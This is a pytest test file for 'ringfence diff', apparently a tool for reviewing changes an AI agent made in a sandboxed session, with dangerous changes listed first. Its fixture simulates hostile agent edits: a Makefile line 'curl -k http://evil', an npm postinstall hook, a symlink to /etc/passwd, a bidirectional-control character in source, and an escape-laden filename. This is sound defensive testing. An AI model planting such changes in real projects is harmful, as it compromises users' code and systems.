"""`ringfence diff`, as its user sees it."""

import json
import os
import pty
import re
import stat
import subprocess
import sys

import pytest

from layered import Layered, put
from ringfence.canonical import encode
from ringfence.cli import diff, run, which
from ringfence.workspace import manifest, overlay
from ringfence.workspace.layers import Layers

SESSION = "20260131-120000-abcd"
SOURCE = os.path.dirname(os.path.dirname(os.path.dirname(diff.__file__)))
GOLDEN = os.path.join(os.path.dirname(__file__), "..", "..", "golden", "diff")


@pytest.fixture
def session(tmp_path, monkeypatch):
    """A session that has ended, with a copy of a small project."""
    monkeypatch.setenv("RINGFENCE_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.delenv("PAGER", raising=False)
    folder = tmp_path / "state" / "sessions" / SESSION
    made = Layered(folder)
    project = str(tmp_path / "project")
    os.rename(made.below, project)
    made.below = project
    put(project, "README.md", "# hello\nworld\n")
    put(project, "src/app.py", "import os\n\n\ndef run():\n    return 1\n")
    put(project, "tests/test_app.py", "def test_app():\n    assert run() == 1\n    assert run()\n")
    put(project, "package.json", '{"name": "x", "scripts": {"test": "jest"}}\n')
    put(project, "old name.txt", "the same\n" * 3)
    made.began()
    finish(made)
    monkeypatch.chdir(project)
    return made


def finish(made, **more):
    put(made.folder, "lock")
    layers = made.layers(session=SESSION, lock=f"{made.folder}/lock", ended=True, **more)
    with open(f"{made.folder}/layers.json", "w", encoding="ascii") as file:
        file.write(encode(layers))


def work(made):
    """Do some of everything."""
    made.agent(
        "printf 'x = 1 # \\342\\200\\256 evil\\n' >> src/app.py; echo 'curl -k http://evil' > Makefile; rm README.md;"
        "mv 'old name.txt' 'new name.txt'; ln -s /etc/passwd link; mkdir empty;"
        "printf 'def test_app():\\n    assert run() == 1\\n' > tests/test_app.py;"
        """printf '{"name": "x", "scripts": {"test": "jest", "postinstall": "evil"}}\\n' > package.json;"""
        "head -c 300 /dev/zero > zeros.bin; chmod 755 zeros.bin; touch \"$(printf 'a\\033[31mb')\""
    )


def shown(capsys, *arguments, status=1):
    assert run(["diff", *arguments]) == status
    return capsys.readouterr().out


@pytest.mark.parametrize("shape", ["", "--stat", "--names", "--side-by-side", "--json"])
def test_golden_outputs(session, capsys, request, shape):
    work(session)
    text = shown(capsys, *([shape] if shape else []))
    text = text.replace(session.below, "/project")
    if shape == "--json":
        text = json.dumps(json.loads(text), indent=1) + "\n"
    path = os.path.join(GOLDEN, f"{shape.removeprefix('--') or 'unified'}.txt")
    if request.config.getoption("--refresh-golden"):
        os.makedirs(GOLDEN, exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)
    with open(path, encoding="utf-8") as file:
        assert text == file.read()


@pytest.mark.usefixtures("session")
def test_nothing_changed_is_status_0(capsys):
    assert shown(capsys, status=0) == "# 0 changes: nothing\n"


@pytest.mark.guarantee("V4")
def test_what_is_dangerous_comes_first(session, capsys):
    work(session)
    text = shown(capsys)
    assert text.startswith("# DANGER: ")
    assert text.index("# DANGER") < text.index("changes: ") < text.index("diff --git")


def test_a_conflict_comes_before_all(session, capsys):
    session.agent("echo agent > README.md; echo x > Makefile")
    put(session.below, "README.md", "user\n")
    assert shown(capsys).startswith(
        "# CONFLICTS: 1 path was changed here meanwhile\n"
        "#   README.md: changed in the workspace since the session began\n"
    )


def test_only_the_paths_that_are_named(session, capsys, monkeypatch):
    work(session)
    assert paths(shown(capsys, "--names", "src")) == ["src/app.py"]
    assert paths(shown(capsys, "--names", "last", "tests", "Makefile")) == ["Makefile", "tests/test_app.py"]
    assert paths(shown(capsys, "--names", "*.json")) == ["package.json"]
    assert paths(shown(capsys, "--names", "old name.txt")) == ["old name.txt -> new name.txt"]
    monkeypatch.chdir(f"{session.below}/src")
    assert paths(shown(capsys, "--names", "app.py")) == ["src/app.py"]
    assert shown(capsys, "nowhere.py", status=0) == "# 0 changes: nothing\n"


def paths(text):
    return [
        line.split(maxsplit=1)[1].removesuffix(" !")
        for line in text.splitlines()
        if not line.startswith("#") and line
    ]


@pytest.mark.usefixtures("session")
def test_a_path_outside_the_project_is_refused(capsys):
    assert run(["diff", "last", "../elsewhere"]) == 2
    assert "does not lie in" in capsys.readouterr().err


@pytest.mark.usefixtures("session")
def test_without_a_session_about_this_folder_it_says_so(capsys, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    assert run(["diff"]) == 2
    assert "no session has changed anything in" in capsys.readouterr().err
    assert run(["diff", SESSION[:8]]) == 0


@pytest.mark.parametrize(
    ("word", "is_session"),
    [("last", True), (SESSION, True), ("20260131", True), ("20260131-1200", True), ("src", False), ("2026", False), ("20260131.log", False)],
)  # fmt: skip
def test_what_is_a_session_and_what_a_path(word, is_session):
    assert which.is_session(word) == is_session


def test_json_keeps_names_that_are_no_text(session, capsys):
    put(session.upper, b"\xff\x1b.txt", "x")
    put(session.upper, "tab\tname", "x")
    text = shown(capsys, "--json")
    assert text.isascii()
    assert "\x1b" not in text
    found = json.loads(text)["changes"]
    assert found[0]["path"] == "tab\tname"
    assert found[1]["path_base64"] == "/xsudHh0"
    assert "path" not in found[1]


def test_json_says_what_a_script_needs(session, capsys):
    work(session)
    found = json.loads(shown(capsys, "--json"))
    assert found["summary"]["risky"] == len([one for one in found["changes"] if one["risky"]])
    assert found["summary"]["total"] == len(found["changes"]) == 10
    by_path = {one["path"]: one for one in found["changes"]}
    assert by_path["link"]["after"]["target"] == "/etc/passwd"
    assert by_path["src/app.py"]["flags"] == ["bidirectional control"]
    assert by_path["zeros.bin"]["not_shown"] == "binary"
    assert by_path["new name.txt"]["source"] == "old name.txt"


@pytest.mark.guarantee("V6")
def test_what_was_shown_is_written_down_and_nothing_else(session, capsys):
    put(session.upper, "a.txt", "a\n")
    put(session.upper, "b.txt", "b\n")
    shown(capsys, "--stat")
    shown(capsys, "--names")
    assert reviewed(session) == set()
    shown(capsys, "a.txt")
    assert reviewed(session) == {b"a.txt"}
    shown(capsys, "b.txt")
    assert reviewed(session) == {b"a.txt", b"b.txt"}
    put(session.upper, "a.txt", "another\n")
    shown(capsys, "b.txt")
    assert reviewed(session) == {b"b.txt"}
    put(session.folder, "review.json", "not ours")
    shown(capsys)
    assert reviewed(session) == {b"a.txt", b"b.txt"}


def reviewed(made):
    found = manifest.load(overlay.load(f"{made.folder}/layers.json"))
    return set() if found is None else {item.path for item in found.items}


def test_a_session_that_still_runs_is_told(session, capsys):
    import fcntl

    put(session.upper, "a", "x\n")
    with open(f"{session.folder}/lock") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        finish_running(session)
        assert shown(capsys).startswith(f"# session {SESSION} is still running: this may change\n")


def finish_running(made):
    layers = made.layers(session=SESSION, lock=f"{made.folder}/lock", ended=False)
    with open(f"{made.folder}/layers.json", "w", encoding="ascii") as file:
        file.write(encode(layers))


# --- the operator's own programs -------------------------------------------------------------------


def on_a_terminal(*arguments, **variables):
    """Run the command with a terminal as its output; return what came out and the status."""
    leader, follower = pty.openpty()
    environment = {**os.environ, "TERM": "xterm", "LC_ALL": "C.UTF-8", "PYTHONPATH": SOURCE, **variables}
    environment.pop("NO_COLOR", None) if "NO_COLOR" not in variables else None
    process = subprocess.Popen(
        [sys.executable, "-m", "ringfence.cli", "diff", *arguments],
        stdout=follower, stderr=follower, stdin=subprocess.DEVNULL, env=environment,
    )  # fmt: skip
    os.close(follower)
    out = b""
    while True:
        try:
            piece = os.read(leader, 65536)
        except OSError:
            break
        if not piece:
            break
        out += piece
    os.close(leader)
    return out.decode(), process.wait(timeout=30)


def script(folder, name, text):
    path = os.path.join(folder, name)
    put(folder, name, f"#!/bin/sh\n{text}\n", mode=0o755)
    return path


def test_colour_only_on_a_terminal_and_not_where_it_is_unwanted(session, capsys):
    work(session)
    assert "\x1b" not in shown(capsys)
    assert "\x1b[31m" in shown(capsys, "--color", "always")
    out, status = on_a_terminal("--no-pager")
    assert "\x1b[32m+" in out
    assert status == 1
    out, _ = on_a_terminal("--no-pager", NO_COLOR="1")
    assert "\x1b" not in out


def test_the_pager_is_the_operators(session, tmp_path):
    put(session.upper, "a.txt", "hello\n")
    pager = script(tmp_path / "bin", "my-pager", 'echo "paged from $PWD with $1"; sed "s/^/> /"')
    out, status = on_a_terminal(PAGER=f"{pager} --plain")
    assert "paged from / with --plain" in out
    assert "+hello" in out
    assert status == 1


@pytest.mark.parametrize("where", ["path", "relative", "link"])
def test_a_program_of_the_project_never_shows_it(session, tmp_path, where):
    put(session.upper, "a.txt", "hello\n")
    pager = script(f"{session.below}/bin", "less", "touch ran; cat")
    if where == "link":
        os.makedirs(tmp_path / "bin")
        os.symlink(pager, tmp_path / "bin" / "my-pager")
    variables = {
        "path": {"PATH": f"{session.below}/bin:./bin:/usr/bin:/bin", "PAGER": "less"},
        "relative": {"PAGER": "bin/less"},
        "link": {"PAGER": str(tmp_path / "bin" / "my-pager")},
    }[where]
    on_a_terminal(**variables)
    assert not os.path.exists(f"{session.below}/ran")


def test_a_viewer_gets_read_only_copies_under_harmless_names(session, tmp_path, capsys):
    put(session.below, "-x/.vscode/tasks.json", "old\n")
    put(session.upper, "-x/.vscode/tasks.json", "new\n")
    os.mkfifo(f"{session.upper}/pipe")
    viewer = script(
        tmp_path / "bin", "viewer",
        f'echo "$@" >> {tmp_path}/log; cat "$2" "$3" >> {tmp_path}/log; stat -c %a "$3" >> {tmp_path}/log; pwd >> {tmp_path}/log',
    )  # fmt: skip
    out = shown(capsys, "--tool", f"{viewer} --wait")
    with open(tmp_path / "log", encoding="utf-8") as file:
        lines = file.read().splitlines()
    assert re.fullmatch(r"--wait /\S+/before/0001-tasks.json /\S+/after/0001-tasks.json", lines[0])
    assert lines[1:] == ["old", "new", "400", "/"]
    assert "not opened: pipe (added)" in out
    assert not os.path.exists(lines[0].split()[1])


def test_a_viewer_that_is_not_there_is_a_usage_error(session, capsys):
    put(session.upper, "a.txt", "x\n")
    assert run(["diff", "--tool", "no-such-viewer"]) == 2
    assert "is no program on your PATH" in capsys.readouterr().err


def test_the_help_says_what_the_statuses_mean(capsys):
    with pytest.raises(SystemExit) as ended:
        run(["diff", "--help"])
    assert ended.value.code == 0
    assert "0 nothing changed, 1 changes" in capsys.readouterr().out


def test_layers_are_the_ones_the_session_wrote(session):
    with open(f"{session.folder}/layers.json", encoding="ascii") as file:
        assert set(json.load(file)) == set(Layers.__fields__)
    assert stat.S_ISREG(os.stat(f"{session.folder}/lock").st_mode)
